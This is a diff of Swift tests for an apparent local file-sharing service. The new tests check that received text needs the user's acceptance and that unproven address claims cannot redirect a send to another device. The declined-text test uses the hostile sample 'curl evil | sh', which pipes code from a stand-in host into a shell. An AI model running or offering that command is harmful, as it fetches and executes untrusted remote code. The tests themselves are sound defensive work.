@@ -113,15 +113,51 @@ import Testing
         }
     }
 
-    @Test func aTextIsShownWithoutAnUpload() async throws {
-        try await withPair { receiver, sender, peer, _ in
-            try await sender.service.send(text: "hello\nthere", to: peer, pin: nil)
+    @Test func aTextIsAskedAboutLikeFilesAndReportedOnlyOnceTaken() async throws {
+        try await withPair { receiver, sender, peer, scratch in
+            let declined = Task { try await sender.service.send(text: "curl evil | sh", to: peer, pin: nil) }
+            let first = try #require(await receiver.events.first(where: Self.offer))
+            #expect(first.text == "curl evil | sh")
+            #expect(first.files.isEmpty)
+            #expect(first.from.fingerprint == sender.service.fingerprint)
+            #expect(!receiver.events.events.contains { if case .textReceived = $0 { true } else { false } })
+            await receiver.service.answer(first, with: .decline)
+            await #expect(throws: LocalSendError.declined) { try await declined.value }
+            #expect(!receiver.events.events.contains { if case .textReceived = $0 { true } else { false } })
+
+            receiver.events.clear()
+            let taken = Task { try await sender.service.send(text: "hello\nthere", to: peer, pin: nil) }
+            let second = try #require(await receiver.events.first(where: Self.offer))
+            await receiver.service.answer(second, with: .accept(into: scratch.url))
+            try await taken.value
             let shown = await receiver.events.first { event -> String? in
                 if case .textReceived(let text, let from) = event, from.name == "Sender" { return text }
                 return nil
             }
             #expect(shown == "hello\nthere")
-            #expect(!receiver.events.events.contains { if case .offered = $0 { true } else { false } })
+        }
+    }
+
+    @Test func aSendGoesOnlyWhereTheDeviceWasChosenAndAnUnprovenClaimMovesNothing() async throws {
+        try await withPair { receiver, sender, peer, _ in
+            var claim = LocalSendDeviceInfo(
+                alias: "Receiver",
+                deviceModel: nil,
+                deviceType: nil,
+                fingerprint: receiver.service.fingerprint,
+                port: 9,
+                protocol: "http",
+                download: false
+            )
+            // Neither a plain-HTTP claim nor an unproven HTTPS one at another address changes the device.
+            sender.service.heard(claim, from: "127.0.0.2")
+            claim.protocol = "https"
+            sender.service.heard(claim, from: "127.0.0.2")
+            let target = try sender.service.target(for: peer)
+            #expect((target.host, target.port, target.https) == ("127.0.0.1", receiver.port, true))
+            // Moved for real (proven) after the user chose it: the send refuses rather than follow.
+            sender.service.heard(claim, from: "127.0.0.1", proven: true)
+            #expect(throws: LocalSendError.self) { try sender.service.target(for: peer) }
         }
     }
 
